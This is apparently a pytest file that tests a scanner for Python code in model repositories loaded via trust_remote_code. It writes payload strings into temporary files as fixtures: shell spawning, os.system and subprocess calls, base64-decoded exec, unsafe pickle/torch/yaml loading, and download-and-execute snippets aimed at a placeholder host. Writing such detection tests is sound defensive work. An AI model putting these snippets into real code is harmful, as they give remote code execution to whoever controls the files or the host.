"""A repository's ``*.py`` files are code that trust_remote_code imports (issue 11 B).

Every payload here is a string written to a file; nothing is imported or run.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from weightscan.scanner import Verdict, scan_path

MODELING = """\
import math

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.pattern = __import__("re").compile(r"\\d+")

    def forward(self, x):
        return torch.softmax(self.proj(x) / math.sqrt(x.shape[-1]), dim=-1)


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.attn = TinyAttention(config)
        self.eval()
        exec("VERSION = 1")

    def load_extra(self, path):
        return torch.load(path, weights_only=True, map_location="cpu")
"""


def _rules(report) -> set[str]:
    return {f.rule_id for f in report.findings}


def _scan_one(path: Path):
    (report,) = scan_path(path).files
    return report


def test_ordinary_modeling_code_is_suspicious_code_not_malicious(tmp_path):
    py = tmp_path / "modeling_tiny.py"
    py.write_text(MODELING)
    report = _scan_one(py)
    assert report.format == "python"
    assert report.verdict is Verdict.SUSPICIOUS
    assert _rules(report) == {"code.python"}
    assert "torch" in report.summary["imports"]


def test_auto_map_entry_that_loads_the_file_is_named(tmp_path):
    (tmp_path / "modeling_tiny.py").write_text(MODELING)
    (tmp_path / "config.json").write_text(
        json.dumps(
            {
                "model_type": "tiny",
                "auto_map": {
                    "AutoConfig": "configuration_tiny.TinyConfig",
                    "AutoModel": "modeling_tiny.TinyModel",
                },
            }
        )
    )
    (tmp_path / "tokenizer_config.json").write_text(
        json.dumps({"auto_map": {"AutoTokenizer": ["modeling_tiny.TinyTokenizer", None]}})
    )
    report = scan_path(tmp_path)
    by_name = {Path(f.path).name: f for f in report.files}
    code = by_name["modeling_tiny.py"]
    (finding,) = [f for f in code.findings if f.rule_id == "code.python"]
    assert "config.json: AutoModel -> modeling_tiny.TinyModel" in finding.message
    assert "tokenizer_config.json: AutoTokenizer -> modeling_tiny.TinyTokenizer" in finding.message
    assert by_name["config.json"].verdict is Verdict.CLEAN


def test_modeling_file_running_os_system_is_malicious(tmp_path):
    py = tmp_path / "modeling_evil.py"
    py.write_text(MODELING + "\nimport os\nos.system('touch /tmp/weightscan-proof')\n")
    report = _scan_one(py)
    assert report.verdict is Verdict.MALICIOUS
    (hit,) = [f for f in report.findings if f.rule_id == "code.process"]
    assert hit.evidence["call"] == "os.system"
    assert hit.evidence["line"] > 30


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ("import subprocess\nsubprocess.run(['echo', 'x'])", "code.process"),
        ("from subprocess import Popen as P\nP('echo x', shell=True)", "code.process"),
        ("import os as o\no.popen('echo x')", "code.process"),
        ("import pty\npty.spawn('/bin/sh')", "code.process"),
        ("getattr(__import__('os'), 'system')('echo x')", "code.process"),
        ("import importlib\nimportlib.import_module('subprocess').call('echo x')", "code.process"),
        ("import os\nos.execv('/bin/echo', ['echo'])", "code.process"),
        ("payload = 'print(1)'\nexec(payload)", "code.dynamic-exec"),
        ("eval(input())", "code.dynamic-exec"),
        (
            "import base64\nexec(compile(base64.b64decode(b'cHJpbnQoMSk='), 'x', 'exec'))",
            "code.dynamic-exec",
        ),
        ("import pickle\npickle.loads(open('w.bin', 'rb').read())", "code.deserialization"),
        ("import torch\ntorch.load('w.bin')", "code.deserialization"),
        ("import torch\ntorch.load('w.bin', weights_only=False)", "code.deserialization"),
        ("import joblib\njoblib.load('m.joblib')", "code.deserialization"),
        ("import marshal\nmarshal.loads(b'')", "code.deserialization"),
        ("import yaml\nyaml.load(open('c.yaml'))", "code.deserialization"),
        ("import yaml\nyaml.load(open('c.yaml'), Loader=yaml.Loader)", "code.deserialization"),
        ("import numpy as np\nnp.load('a.npy', allow_pickle=True)", "code.deserialization"),
        (
            "import urllib.request\nsrc = urllib.request.urlopen('https://x.invalid/p').read()\n"
            "exec(src)",
            "code.download-exec",
        ),
        (
            "import requests, os\nopen('/tmp/p.sh', 'w').write(requests.get('https://x.invalid').text)"
            "\nos.system('sh /tmp/p.sh')",
            "code.download-exec",
        ),
    ],
    ids=lambda v: v if isinstance(v, str) and v.startswith("code.") else None,
)
def test_dangerous_calls_are_malicious(tmp_path, body, rule):
    py = tmp_path / "modeling_x.py"
    py.write_text(body + "\n")
    report = _scan_one(py)
    assert report.verdict is Verdict.MALICIOUS, report.findings
    assert rule in _rules(report)


@pytest.mark.parametrize(
    "body",
    [
        "import yaml\nyaml.load(open('c.yaml'), Loader=yaml.SafeLoader)",
        "import yaml\nyaml.safe_load(open('c.yaml'))",
        "import numpy as np\nnp.load('a.npy')",
        "import numpy as np\nnp.load('a.npy', allow_pickle=False)",
        "import torch\ntorch.load('w.bin', weights_only=True)",
        "import re\nPATTERN = re.compile(r'x+')",
        "import torch\nmodel = torch.compile(torch.nn.Linear(2, 2))\nmodel.eval()",
        "eval('1 + 1')",
    ],
)
def test_safe_spellings_stay_merely_suspicious(tmp_path, body):
    py = tmp_path / "modeling_x.py"
    py.write_text(body + "\n")
    report = _scan_one(py)
    assert report.verdict is Verdict.SUSPICIOUS
    assert _rules(report) == {"code.python"}


def test_unparsable_code_is_still_flagged(tmp_path):
    py = tmp_path / "modeling_x.py"
    py.write_text("def broken(:\n    os.system('echo')\n")
    report = _scan_one(py)
    assert report.verdict is Verdict.SUSPICIOUS
    assert _rules(report) == {"code.python", "code.unparsed"}


def test_deeply_nested_code_is_bounded(tmp_path):
    py = tmp_path / "modeling_x.py"
    py.write_text("x = " + "(" * 5000 + "1" + ")" * 5000 + "\n")
    report = _scan_one(py)
    assert report.verdict is Verdict.SUSPICIOUS


def test_auto_map_pointing_at_another_repository_is_suspicious(tmp_path):
    config = tmp_path / "config.json"
    config.write_text(
        json.dumps(
            {
                "auto_map": {
                    "AutoConfig": "configuration_x.XConfig",
                    "AutoModelForCausalLM": "someone/elsewhere--modeling_x.XForCausalLM",
                }
            }
        )
    )
    report = _scan_one(config)
    assert report.verdict is Verdict.SUSPICIOUS
    (finding,) = (
        report.findings
        if len(report.findings) == 1
        else [f for f in report.findings if f.rule_id == "code.auto-map.remote"]
    )
    assert finding.rule_id == "code.auto-map.remote"
    assert "someone/elsewhere" in finding.message


def test_local_auto_map_config_is_clean(tmp_path):
    config = tmp_path / "tokenizer_config.json"
    config.write_text(json.dumps({"auto_map": {"AutoTokenizer": ["tok.T", None]}}))
    assert _scan_one(config).verdict is Verdict.CLEAN


def test_py_member_of_an_archive_is_text(tmp_path):
    import zipfile

    archive = tmp_path / "bundle.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("pkg/helper.py", "def f():\n    return 1\n")
    report = _scan_one(archive)
    assert "code.python" not in _rules(report)


def test_a_parser_memory_bomb_is_refused_quickly(tmp_path):
    # 400 KB of "f()" lines would take ~300 MB and seconds in ast.parse
    py = tmp_path / "modeling_x.py"
    py.write_text("f()\n" * 100_000)
    report = _scan_one(py)
    assert report.verdict is Verdict.SUSPICIOUS
    (finding,) = [f for f in report.findings if f.rule_id == "code.unparsed"]
    assert finding.evidence["nodes"] > finding.evidence["limit"]
    assert report.duration_seconds < 1.0


def test_real_library_code_parses_within_the_budget():
    import argparse

    report = scan_path(argparse.__file__).files[0]  # ~100 KB, as large as modeling files get
    assert {f.rule_id for f in report.findings} == {"code.python"}
